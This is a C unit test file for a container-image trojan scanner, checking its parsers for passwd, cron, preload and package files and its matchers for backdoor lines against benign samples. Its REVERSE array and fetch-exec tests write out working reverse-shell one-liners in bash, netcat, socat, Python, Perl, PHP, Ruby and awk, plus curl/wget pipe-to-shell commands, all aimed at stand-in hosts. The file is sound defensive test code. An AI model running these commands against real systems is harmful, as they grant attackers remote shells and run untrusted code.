/* tests/audit/test_trojan.c: the trojan scanner's parsers and matchers
 * (audit/trojan.h) on the lines real backdoors use (the reverse-shell
 * one-liners of the pentest cheat sheets, dockerscan's reverse_shell.so
 * strings) and on the lines real images carry that must not match
 * (Debian's and Alpine's crontabs, profile files, docker-entrypoint.sh). */
#include "helpers.h"
#include "audit/trojan.h"
#include "audit/trojan_priv.h"

#include <stdio.h>
#include <string.h>

static vigil_slice S(const char *s) { return vigil_slice_cstr(s); }

static void test_passwd(void **state)
{
	trojan_passwd p;
	(void)state;
	assert_int_equal(trojan_passwd_line(S("root:x:0:0:root:/root:/bin/bash"), &p), 1);
	assert_true(vigil_slice_eq_cstr(p.name, "root"));
	assert_int_equal(p.uid, 0);
	assert_true(vigil_slice_eq_cstr(p.shell, "/bin/bash"));
	assert_int_equal(trojan_passwd_line(S("toor:x:0:0::/root:/bin/sh"), &p), 1);
	assert_true(vigil_slice_eq_cstr(p.name, "toor"));
	assert_int_equal(p.uid, 0);
	assert_int_equal(trojan_passwd_line(S("nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin"), &p), 1);
	assert_int_equal(p.uid, 65534);
	assert_int_equal(trojan_passwd_line(S("# comment"), &p), 0);
	assert_int_equal(trojan_passwd_line(S("   "), &p), 0);
	assert_int_equal(trojan_passwd_line(S("+::::::"), &p), 0);
	assert_int_equal(trojan_passwd_line(S("bad:x:0:0"), &p), -1);
	assert_int_equal(trojan_passwd_line(S("bad:x:zero:0:::"), &p), -1);
	assert_int_equal(trojan_passwd_line(S("big:x:99999999999:0:::"), &p), -1);
	assert_int_equal(trojan_passwd_line(S(":x:0:0:::"), &p), -1);
}

static void test_cron(void **state)
{
	trojan_cron c;
	(void)state;
	assert_int_equal(trojan_cron_line(S("17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly"), true, &c), 1);
	assert_true(vigil_slice_eq_cstr(c.user, "root"));
	assert_true(vigil_slice_eq_cstr(c.command, "cd / && run-parts --report /etc/cron.hourly"));
	assert_int_equal(trojan_cron_line(S("*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min"), false, &c), 1);
	assert_int_equal(c.user.len, 0);
	assert_true(vigil_slice_eq_cstr(c.command, "run-parts /etc/periodic/15min"));
	assert_int_equal(trojan_cron_line(S("@reboot root /opt/x.sh"), true, &c), 1);
	assert_true(vigil_slice_eq_cstr(c.schedule, "@reboot"));
	assert_true(vigil_slice_eq_cstr(c.command, "/opt/x.sh"));
	assert_int_equal(trojan_cron_line(S("SHELL=/bin/sh"), true, &c), 0);
	assert_int_equal(trojan_cron_line(S("PATH = /usr/bin"), true, &c), 0);
	assert_int_equal(trojan_cron_line(S("# m h dom mon dow user command"), true, &c), 0);
	assert_int_equal(trojan_cron_line(S("* * *"), true, &c), -1);
	assert_int_equal(trojan_cron_line(S("* * * * * root"), true, &c), -1);
}

static void test_preload(void **state)
{
	vigil_slice l[4];
	(void)state;
	assert_int_equal(trojan_preload_parse(S("/lib/libx.so\n# c\n /usr/lib/a.so  /b.so # tail\n"), false, l, 4), 3);
	assert_true(vigil_slice_eq_cstr(l[0], "/lib/libx.so"));
	assert_true(vigil_slice_eq_cstr(l[1], "/usr/lib/a.so"));
	assert_true(vigil_slice_eq_cstr(l[2], "/b.so"));
	assert_int_equal(trojan_preload_parse(S("/a.so:/b.so /c.so"), true, l, 4), 3);
	assert_true(vigil_slice_eq_cstr(l[1], "/b.so"));
	assert_int_equal(trojan_preload_parse(S("# only a comment\n\n"), false, l, 4), 0);
	assert_int_equal(trojan_preload_parse(S("a b c d e f"), false, l, 2), 6); /* count beyond max */
	assert_true(trojan_lib_dir(S("/usr/lib/x86_64-linux-gnu/libz.so.1")));
	assert_true(trojan_lib_dir(S("lib/libc.so.6")));
	assert_true(trojan_lib_dir(S("libfoo.so")));
	assert_false(trojan_lib_dir(S("/usr/share/lib/reverse_shell.so")));
	assert_false(trojan_lib_dir(S("/tmp/x.so")));
	assert_false(trojan_lib_dir(S("/usr/lib/../../tmp/x.so")));
}

static const char *const REVERSE[] = {
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
	"nc -e /bin/sh 10.0.0.1 4444",
	"/bin/nc.traditional 10.0.0.1 4444 -e /bin/bash &",
	"ncat 10.0.0.1 4444 --sh-exec 'bash'",
	"busybox nc 10.0.0.1 4444 -e sh",
	"socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
	"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
	"s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\"sh\")'",
	"perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
	"if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
	"php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
	"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
	"telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
	"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
	"if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
	"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
	"sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
	"xterm -display 10.0.0.1:1",
};

static const char *const BENIGN[] = {
	"# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"exec \"$@\"",
	"nc -z db 5432 && echo -e 'db up'",
	"if [ -x /usr/bin/nc ]; then nc -l -p 8080; fi",
	"python3 /app/server.py --port 8080",
	"socat TCP-LISTEN:8080,fork TCP:backend:80",
	"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
	"if [ \"$PS1\" ]; then if [ \"$BASH\" ] && [ \"$BASH\" != \"/bin/sh\" ]; then PS1='\\h:\\w\\$ '; fi; fi",
	"mkfifo /run/app.fifo",
	"(echo -n > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1",
	"timeout 15 bash -c 'until printf \"\" 2>>/dev/null >>/dev/tcp/$0/$1; do sleep 1; done' db 5432",
	"exec 3<>/dev/tcp/localhost/80; echo -e 'GET /health HTTP/1.0\\r\\n' >&3; cat <&3",
	"exec python -m gunicorn --bind unix:/run/gunicorn.socket --workers 3 app:app",
	"python3 -c 'import socket; print(socket.gethostname())'",
	"curl -fsS http://localhost:8080/health || exit 1",
	"",
};

static void test_revshell(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(REVERSE) / sizeof(REVERSE[0]); i++) {
		const char *why = trojan_revshell_match(S(REVERSE[i]));
		if (!why)
			fail_msg("not caught: %s", REVERSE[i]);
	}
	for (size_t i = 0; i < sizeof(BENIGN) / sizeof(BENIGN[0]); i++) {
		const char *why = trojan_revshell_match(S(BENIGN[i]));
		if (why)
			fail_msg("false alarm (%s): %s", why, BENIGN[i]);
	}
	assert_string_equal(trojan_revshell_match(S(REVERSE[0])), "bash /dev/tcp redirection");
	assert_string_equal(trojan_revshell_match(S(REVERSE[2])), "netcat running a program (-e)");
}

static void test_fetch_exec(void **state)
{
	(void)state;
	assert_string_equal(trojan_fetch_exec_match(S("curl -fsSL http://x.example/i.sh | sh")),
			    "download piped into a shell");
	assert_string_equal(trojan_fetch_exec_match(S("wget -qO- http://x.example/m | /bin/bash -s")),
			    "download piped into a shell");
	assert_string_equal(trojan_fetch_exec_match(S("sh -c \"$(curl -fsSL http://x.example/i.sh)\"")),
			    "runs what it downloads");
	assert_string_equal(trojan_fetch_exec_match(S("wget -O /tmp/.x http://x.example/x && chmod +x /tmp/.x && /tmp/.x")),
			    "download made executable");
	assert_null(trojan_fetch_exec_match(S("curl -fsS http://localhost/health || exit 1")));
	assert_null(trojan_fetch_exec_match(S("wget -q -O /tmp/a.tgz http://x.example/a.tgz | tee log")));
	assert_null(trojan_fetch_exec_match(S("# curl x | sh")));
}

static void test_script(void **state)
{
	trojan_script s;
	(void)state;
	const char *wrapper = "#!/bin/sh\n"
			      "# trojan\n"
			      "nc -e /bin/sh 10.0.0.1 4444 &\n"
			      "exec /usr/sbin/nginx -g 'daemon off;'\n";
	trojan_script_scan(S(wrapper), &s);
	assert_true(s.shell);
	assert_true(s.execs);
	assert_int_equal(s.exec_line, 4);
	assert_int_equal(s.commands, 1);
	assert_int_equal(s.background, 1);
	assert_string_equal(s.bad, "netcat running a program (-e)");
	assert_int_equal(s.bad_line, 3);
	assert_true(vigil_slice_eq_cstr(s.bad_text, "nc -e /bin/sh 10.0.0.1 4444 &"));

	const char *official = "#!/usr/bin/env bash\nset -e\nif [ \"$1\" = 'postgres' ]; then\n  docker_setup_env\nfi\n"
			       "exec \"$@\"\n";
	trojan_script_scan(S(official), &s);
	assert_true(s.shell);
	assert_true(s.execs);
	assert_int_equal(s.commands, 4);
	assert_null(s.bad);

	trojan_script_scan(S("#!/usr/bin/python3\nimport os\n"), &s);
	assert_false(s.shell);
	trojan_script_scan(S("export LD_PRELOAD=/tmp/x.so\nexec app\n"), &s);
	assert_true(s.shell);
	assert_string_equal(s.bad, "sets LD_PRELOAD");
}

static void test_elf(void **state)
{
	(void)state;
	/* the strings dockerscan's reverse_shell.so carries in its .dynstr */
	static const uint8_t so[] = "\x7f" "ELF\x02\x01\x01\0\0libc.so.6\0socket\0connect\0dup2\0execve\0fork\0"
				    "getenv\0\0/bin/sh\0.init_array\0";
	unsigned h = trojan_elf_hints(so, sizeof(so));
	assert_int_equal(h & TROJAN_ELF_REVSHELL, TROJAN_ELF_REVSHELL);
	assert_true(h & TROJAN_ELF_BINSH);
	assert_true(h & TROJAN_ELF_CTOR);
	char buf[256];
	trojan_elf_describe(h, buf, sizeof(buf));
	assert_non_null(strstr(buf, "reverse shell"));
	static const uint8_t plain[] = "\x7f" "ELF\x02\0zlibVersion\0inflate\0";
	h = trojan_elf_hints(plain, sizeof(plain));
	assert_int_equal(h, TROJAN_ELF);
	assert_int_equal(trojan_elf_hints((const uint8_t *)"#!/bin/sh", 9), 0);
	trojan_elf_describe(0, buf, sizeof(buf));
	assert_string_equal(buf, "not an ELF file");
}

struct owned {
	char paths[8][64], pkgs[8][32];
	size_t n;
};

static int collect(void *ud, vigil_slice path, vigil_slice pkg)
{
	struct owned *o = ud;
	if (o->n < 8) {
		snprintf(o->paths[o->n], sizeof(o->paths[0]), "%.*s", (int)path.len, path.ptr);
		snprintf(o->pkgs[o->n], sizeof(o->pkgs[0]), "%.*s", (int)pkg.len, pkg.ptr);
	}
	o->n++;
	return 0;
}

static void test_pkg_lists(void **state)
{
	struct owned o = { 0 };
	(void)state;
	assert_int_equal(trojan_dpkg_list(S("/.\n/usr\n/usr/bin/sudo\n\n"), S("sudo"), collect, &o), 0);
	assert_int_equal(o.n, 2);
	assert_string_equal(o.paths[1], "usr/bin/sudo");
	assert_string_equal(o.pkgs[1], "sudo");
	memset(&o, 0, sizeof(o));
	assert_int_equal(trojan_apk_installed(S("C:Q1x=\nP:busybox\nF:bin\nR:busybox\nR:sh\nF:etc\nR:securetty\n\n"
						"R:orphan\nP:doas\nF:usr/bin\nR:doas\n"),
					      collect, &o),
			 0);
	assert_int_equal(o.n, 4); /* R: before any P: of its paragraph is nobody's */
	assert_string_equal(o.paths[0], "bin/busybox");
	assert_string_equal(o.paths[1], "bin/sh");
	assert_string_equal(o.paths[2], "etc/securetty");
	assert_string_equal(o.pkgs[2], "busybox");
	assert_string_equal(o.paths[3], "usr/bin/doas");
	assert_string_equal(o.pkgs[3], "doas");
}

static void test_classify(void **state)
{
	(void)state;
	assert_int_equal(trojan_classify("etc/ld.so.preload"), TK_PRELOAD);
	assert_int_equal(trojan_classify("etc/passwd"), TK_PASSWD);
	assert_int_equal(trojan_classify("etc/passwd-"), TK_NONE);
	assert_int_equal(trojan_classify("etc/crontab"), TK_CRON_SYS);
	assert_int_equal(trojan_classify("etc/cron.d/e2scrub_all"), TK_CRON_SYS);
	assert_int_equal(trojan_classify("etc/cron.d/sub/x"), TK_NONE);
	assert_int_equal(trojan_classify("var/spool/cron/crontabs/root"), TK_CRON_USER);
	assert_int_equal(trojan_classify("var/spool/cron/root"), TK_CRON_USER);
	assert_int_equal(trojan_classify("etc/crontabs/root"), TK_CRON_USER);
	assert_int_equal(trojan_classify("etc/cron.daily/apt-compat"), TK_CRON_SCRIPT);
	assert_int_equal(trojan_classify("etc/periodic/15min/x"), TK_CRON_SCRIPT);
	assert_int_equal(trojan_classify("root/.ssh/authorized_keys"), TK_AUTHKEYS);
	assert_int_equal(trojan_classify("home/git/.ssh/authorized_keys2"), TK_AUTHKEYS);
	assert_int_equal(trojan_classify("usr/share/doc/authorized_keys"), TK_NONE);
	assert_int_equal(trojan_classify("etc/profile"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/profile.d/01-locale-fix.sh"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/bash.bashrc"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/init.d/procps"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/rc2.d/S01procps"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/rc.local"), TK_STARTUP);
	assert_int_equal(trojan_classify("root/.bashrc"), TK_STARTUP);
	assert_int_equal(trojan_classify("home/app/.profile"), TK_STARTUP);
	assert_int_equal(trojan_classify("home/app/sub/.profile"), TK_NONE);
	assert_int_equal(trojan_classify("lib/systemd/system/ssh.service"), TK_STARTUP);
	assert_int_equal(trojan_classify("etc/systemd/system/multi-user.target.wants/x.service"), TK_STARTUP);
	assert_int_equal(trojan_classify("lib/systemd/system/ssh.conf"), TK_NONE);
	assert_int_equal(trojan_classify("usr/bin/bash"), TK_NONE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_passwd),    cmocka_unit_test(test_cron),   cmocka_unit_test(test_preload),
		cmocka_unit_test(test_revshell),  cmocka_unit_test(test_fetch_exec), cmocka_unit_test(test_script),
		cmocka_unit_test(test_elf),       cmocka_unit_test(test_classify),   cmocka_unit_test(test_pkg_lists),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
